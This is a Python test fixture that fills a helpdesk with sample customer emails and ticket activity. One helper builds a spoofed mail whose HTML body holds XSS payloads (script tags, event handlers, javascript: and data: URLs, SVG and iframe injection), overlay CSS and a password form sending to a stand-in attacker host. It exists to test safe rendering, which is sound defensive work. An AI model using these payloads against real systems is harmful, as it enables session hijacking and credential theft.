"""A desk in the middle of a working day: what pages look like when there is something on them."""

from __future__ import annotations

import base64
from email.message import EmailMessage
from typing import Any, Final

from tests.desk import SALES, SUPPORT, DeskUnderTest, mail

# 24 × 24 pixels of one colour, as a small logo or a photograph of a label.
PICTURE: Final = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAABgAAAAYCAIAAABvFaqvAAAAJklEQVR42mNsaGhgoAZgYqASGDVo1KBRg0YN"
    "GjVo1KBRgwaPQQBWYAHQk8P8lwAAAABJRU5ErkJggg=="
)
_MINUTES: Final = 7
_CHAIRS: Final = "طلب عرض سعر لعشرين كرسي مكتب"


def fill(desk: DeskUnderTest) -> dict[str, str]:
    """Let customers write, and colleagues work on some of it; return ids of what is worth a look.

    `ticket` is a conversation with a note, quotes, an attachment and a draft, `hostile` one whose mail lies,
    `mailbox` the mailbox of both, `customer` who wrote the first, `person` who works on it.
    """
    if SALES not in desk.mailboxes:
        desk.connect(SALES)
    _conversation(desk)
    _arrives(desk, mail("Invoice 77 – wrong address", sender="Omar Haddad <omar@shop.example.org>"))
    _arrives(
        desk,
        mail(
            _CHAIRS,
            "السلام عليكم، نحتاج عشرين كرسياً قبل نهاية الشهر.",
            sender="ليلى حسن <layla@buyers.example.org>",
        ),
    )
    _arrives(
        desk,
        mail(
            "Order 1182: عشرون كرسياً (blue)",
            "Please confirm.",
            sender="فارس صالح <faris@buyers.example.org>",
        ),
    )
    _arrives(
        desk,
        mail(
            "Out of office until Monday",
            "I am away.",
            sender="Ida <ida@shop.example.org>",
            auto_submitted="auto-replied",
        ),
    )
    _arrives(desk, _hostile())
    agent = desk.browser("agent")
    by_subject = {one["subject"]: one for one in desk.tickets("agent")}
    printer = by_subject["The printer on the second floor is on fire"]
    _change(
        agent,
        printer,
        tags=["printer", "urgent"],
        priority="urgent",
        state="open",
        assignee_id=agent.get("/api/session/").json["user"]["id"],
    )
    _change(agent, by_subject[_CHAIRS], tags=["عرض سعر"], state="pending")
    _send(
        agent,
        f"/api/tickets/{printer['id']}/notes",
        {"text": "They have had this printer since May."},
    )
    _send(
        agent, f"/api/tickets/{printer['id']}/replies", {"text": "Somebody is on the way to you."}
    )
    return {
        "ticket": printer["id"],
        "hostile": by_subject["Your account"]["id"],
        "mailbox": desk.mailboxes[SUPPORT],
        "customer": printer["customer_id"],
        "person": agent.get("/api/session/").json["user"]["id"],
    }


def _conversation(desk: DeskUnderTest) -> None:
    subject = "The printer on the second floor is on fire"
    first = EmailMessage()
    first["From"] = "Nora Lind <nora.lind@customers.example.net>"
    first["To"] = SUPPORT
    first["Subject"] = subject
    first["Message-ID"] = "<printer.1@customers.example.net>"
    first.set_content("Please send somebody. A photograph is attached.\n\nNora")
    first.add_alternative(
        "<p>Please send <b>somebody</b>. A photograph is attached.</p>"
        '<p><img src="cid:label@x" alt="label"></p>'
        '<p><a href="https://shop.example.org/order/1182">Order 1182</a></p><p>Nora</p>',
        subtype="html",
    )
    related: Any = first.get_payload()[1]  # type: ignore[index]
    related.add_related(PICTURE, "image", "png", cid="<label@x>")
    first.add_attachment(PICTURE, "image", "png", filename="printer on fire.png")
    first.add_attachment(b"%PDF-1.7", "application", "pdf", filename="فاتورة 1182.pdf")
    _arrives(desk, first.as_bytes())
    _arrives(
        desk,
        mail(
            f"Re: {subject}",
            "One more thing: the lower light blinks red.\n\n"
            "On Mon, Nov 2, 2026 at 9:14 AM Nora Lind <nora.lind@customers.example.net> wrote:\n"
            "> Please send somebody. A photograph is attached.\n",
            sender="Nora Lind <nora.lind@customers.example.net>",
            in_reply_to="<printer.1@customers.example.net>",
            references="<printer.1@customers.example.net>",
        ),
    )


def _arrives(desk: DeskUnderTest, raw: bytes) -> None:
    """Let a mail come in, some minutes after the one before."""
    for clock in (desk.clock.advance, desk.sandbox.advance_clock):  # type: ignore[attr-defined]
        clock(_MINUTES * 60)
    desk.deliver(raw)


def _hostile() -> bytes:
    """Return a mail that would like to be the desk itself."""
    elsewhere = "https://track.example.org"
    message = EmailMessage()
    message["From"] = '"support@example.com" <mallory@evil.example.org>'
    message["Reply-To"] = "collect@evil.example.org"
    message["To"] = SUPPORT
    message["Subject"] = "Your account"
    message.set_content("Hello agent")
    message.add_alternative(
        f"""<html><head><base href="{elsewhere}/" target="_top">
<meta http-equiv="refresh" content="0;url={elsewhere}/">
<link rel="stylesheet" href="{elsewhere}/s.css">
<style>@import url({elsewhere}/i.css); html, body, * {{ position: fixed; inset: 0; z-index: 2147483647;
background: url({elsewhere}/b.png) }} body::after {{ content: "covered" }}</style>
<script>top.pwned = 1; window.pwned = 1; alert(1)</script></head>
<body onload="top.pwned=1" background="{elsewhere}/body.png"><p>Hello <b>agent</b></p>
<img src="{elsewhere}/pixel.gif" onerror="top.pwned=1" srcset="{elsewhere}/x.png 2x">
<svg onload="top.pwned=1"><script>top.pwned=1</script>
<animate attributeName="href" values="javascript:top.pwned=1"/>
<image href="{elsewhere}/svg.png"/></svg>
<iframe src="{elsewhere}/frame" srcdoc="<script>top.pwned=1</script>"></iframe>
<object data="{elsewhere}/o"></object>
<form action="/api/session/" method="post"><input name="password">
<button formaction="{elsewhere}/f">Sign in again</button></form>
<div style="position:fixed;inset:0;margin:-9999px;transform:scale(99);
background:url({elsewhere}/d.png)">covered</div>
<a id="lie" href="https://evil.example.org/login">https://bank.example.com</a>
<a href="javascript:top.pwned=1">click</a> <a href="/api/session/" target="_parent">desk</a>
<a href="data:text/html,<script>top.pwned=1</script>">data</a>
</body></html>""",
        subtype="html",
    )
    return message.as_bytes()


def _change(agent: Any, ticket: dict[str, Any], **fields: object) -> None:
    answer = agent.send(
        "PATCH", f"/api/tickets/{ticket['id']}", fields, if_match=f'"{ticket["version"]}"'
    )
    assert answer.status_code == 200, answer.data


def _send(agent: Any, path: str, body: dict[str, object]) -> None:
    answer = agent.send("POST", path, body)
    assert answer.status_code == 201, answer.data
